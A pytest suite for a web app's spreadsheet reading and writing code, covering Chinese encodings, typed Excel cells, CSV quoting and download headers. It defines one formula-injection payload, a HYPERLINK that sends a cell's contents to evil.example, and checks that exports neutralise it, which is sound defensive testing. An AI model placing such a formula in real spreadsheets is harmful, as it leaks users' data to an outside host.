"""Spreadsheets in and out (app/web/spreadsheets.py, app/web/downloads.py): files as Chinese Excel saves them are
read, files we write open in Excel with their Chinese, numbers as numbers and nothing that runs as a formula."""
import io
from datetime import date, datetime
from decimal import Decimal
from urllib.parse import quote

import openpyxl
import pytest

from app.web.downloads import attachment, csv_response
from app.web.spreadsheets import XLSX_MIME, Sheet, SheetError, csv_table, csv_text, read_table, xlsx_bytes, \
    xlsx_response

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击")'


def _xlsx(rows: list[list]) -> bytes:
    """A workbook as Excel saves it: a text starting with = typed with a leading ' is a string cell."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    for row in book.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _open(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


# ---------------------------------------------------------------- reading
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
def test_a_csv_is_read_in_each_encoding_excel_saves(encoding):
    table = read_table("代码,名称\r\nCTNS,纸箱\r\n".encode(encoding), "a.csv")
    assert table.header == ["代码", "名称"] and table.rows == [(2, ["CTNS", "纸箱"])]


def test_a_character_only_gb18030_has_is_read():
    assert read_table("code,name\nX,㐀\n".encode("gb18030"), "a.csv").rows == [(2, ["X", "㐀"])]


def test_bytes_in_no_known_encoding_are_refused_with_what_to_do():
    with pytest.raises(SheetError, match="UTF-8 或 GBK"):
        read_table(b"code,name\nX,\xff\xfe\n", "a.csv")


def test_blank_rows_are_skipped_and_rows_keep_the_numbers_the_file_shows():
    table = read_table(b"\n\ncode,name\nA,1\n,\nB,2\n", "a.csv")
    assert table.header_line == 3 and table.rows == [(4, ["A", "1"]), (6, ["B", "2"])]


def test_a_quoted_formula_from_our_own_csv_comes_back_as_stored():
    table = read_table(csv_text(["name"], [[EVIL], ["'=already quoted"]]).encode("utf-8"), "a.csv")
    assert [cells for _n, cells in table.rows] == [[EVIL], ["'=already quoted"]]


def test_an_xlsx_cell_reads_as_the_clerk_typed_it():
    data = _xlsx([["n", "f", "d", "dt", "b", "s", "e"],
                  [12.0, 1.5, date(2026, 11, 20), datetime(2026, 11, 20, 9, 30), True, EVIL, None]])
    table = read_table(data, "a.xlsx")
    assert table.rows == [(2, ["12", "1.5", "2026-11-20", "2026-11-20 09:30:00", "是", EVIL, ""])]


def test_an_xlsx_that_states_a_wrong_size_is_read_whole():
    import re
    import zipfile

    source, out = zipfile.ZipFile(io.BytesIO(_xlsx([["code", "name"], ["A", "甲"], ["B", "乙", "多"]]))), io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data = re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1"', data)
            target.writestr(item, data)
    table = read_table(out.getvalue(), "a.xlsx")
    assert table.header == ["code", "name", ""]  # rows padded to the widest, as before
    assert table.rows == [(2, ["A", "甲", ""]), (3, ["B", "乙", "多"])]


def test_too_many_rows_are_refused_as_a_whole():
    with pytest.raises(SheetError, match="文件超过 2 行的上限，未导入任何数据"):
        read_table(_xlsx([["code"], ["A"], ["B"], ["C"]]), "a.xlsx", max_rows=2)
    with pytest.raises(SheetError, match="文件超过 2 行的上限"):
        read_table(b"code\nA\nB\nC\n", "a.csv", max_rows=2)
    assert len(read_table(_xlsx([["code"], ["A"], ["B"]]), "a.xlsx", max_rows=2).rows) == 2


@pytest.mark.parametrize("data, filename, message", [
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64, "a.xls", "不支持旧版 Excel"),
    (b"PK\x03\x04garbage", "a.xlsx", "无法读取 Excel 文件"),
    (b"plain text", "a.xlsx", "不是有效的 Excel"),
    (b"", "a.csv", "文件中没有数据"),
    (b"code\n" + b"x" * 200_000 + b"\n", "a.csv", None),
])
def test_a_file_that_is_no_table_is_a_sheet_error_never_a_crash(data, filename, message):
    try:
        read_table(data, filename)
    except SheetError as exc:
        assert message is None or message in str(exc)
    else:
        assert message is None


def test_csv_text_in_memory_reads_like_a_file():
    assert csv_table("\ufeffcode,name\nA,甲\n").rows == [(2, ["A", "甲"])]


# ---------------------------------------------------------------- writing .xlsx
def test_cells_keep_numbers_as_numbers_and_never_hold_a_formula():
    data = xlsx_bytes([Sheet("表", ["文本", "整数", "小数", "日期", "是否", "公式"],
                             [["纸箱", 2000, Decimal("1200.5000"), date(2026, 11, 20), True, EVIL]])])
    sheet = _open(data)["表"]
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.value for c in cells] == ["纸箱", 2000, 1200.5, "2026-11-20", "是", EVIL]
    assert [c.data_type for c in cells] == ["s", "n", "n", "s", "s", "s"]  # the formula is a string cell


def test_lines_above_the_header_and_the_header_itself():
    data = xlsx_bytes([Sheet("证书查询", ["证书号", "类型"], [["C1", "一般原产地证"]],
                             before=[["证书号", "=C*"], []])])
    sheet = _open(data)["证书查询"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["证书号", "=C*"], [None, None], ["证书号", "类型"], ["C1", "一般原产地证"]]
    assert sheet["B1"].data_type == "s"  # a condition typed as =C* is text too
    assert sheet["A3"].font.b and not sheet["A4"].font.b
    assert sheet.freeze_panes == "A4"  # the header stays in view when scrolling


def test_text_columns_widths_titles_and_characters_xlsx_cannot_hold():
    data = xlsx_bytes([Sheet("国家/地区:[全部]", ["code", "name"], [["0110", "a\x01b\x0bc"]],
                             text_columns=(0,), widths={1: 33})])
    book = _open(data)
    sheet = book[book.sheetnames[0]]
    assert book.sheetnames == ["国家、地区、、全部、"]
    assert sheet["A2"].value == "0110" and sheet["A2"].number_format == "@"
    assert sheet.column_dimensions["A"].number_format == "@" and sheet.column_dimensions["B"].width == 33
    assert sheet["B2"].value == "abc"


def test_drop_down_lists_come_from_a_hidden_sheet():
    data = xlsx_bytes([Sheet("货物", ["单位"], [], validations=[("A", ["PCS", "SETS"], "数量单位")])])
    book = _open(data)
    assert book["代码表"].sheet_state == "hidden"
    assert [c.value for c in book["代码表"]["A"]] == ["数量单位", "PCS", "SETS"]
    assert book["货物"].data_validations.dataValidation[0].formula1 == "'代码表'!$A$2:$A$3"


# ---------------------------------------------------------------- CSV and downloads
def test_csv_text_has_a_bom_and_quotes_what_would_run():
    text = csv_text(["名称", "件数"], [[EVIL, -3], ["纸箱", 5]])
    assert text.startswith("\ufeff名称,件数\r\n")
    assert text.splitlines()[1] == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"点击\"\")\",'-3"


def test_a_csv_response_is_utf8_with_one_bom_and_never_cached():
    for text in ("a,b\r\n甲,乙\r\n", "\ufeffa,b\r\n甲,乙\r\n"):
        response = csv_response(text, "表.csv")
        body = response.get_data()
        assert body.startswith(b"\xef\xbb\xbfa,b") and body.count(b"\xef\xbb\xbf") == 1
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert response.headers["Cache-Control"] == "no-store"


def test_a_chinese_file_name_survives_and_an_ascii_one_stays_plain():
    assert attachment("transport_mode.csv") == "attachment; filename=transport_mode.csv"
    header = attachment("证书查询_20261120-1030.xlsx")
    assert header == f"attachment; filename=\"20261120-1030.xlsx\"; filename*=UTF-8''{quote('证书查询_20261120-1030.xlsx')}"
    assert attachment("参数表.xlsx").startswith('attachment; filename="download.xlsx"; ')


def test_an_xlsx_response_is_a_download():
    response = xlsx_response(xlsx_bytes([Sheet("表", ["a"], [[1]])]), "表.xlsx")
    assert response.mimetype == XLSX_MIME and response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].endswith(f"filename*=UTF-8''{quote('表.xlsx')}")
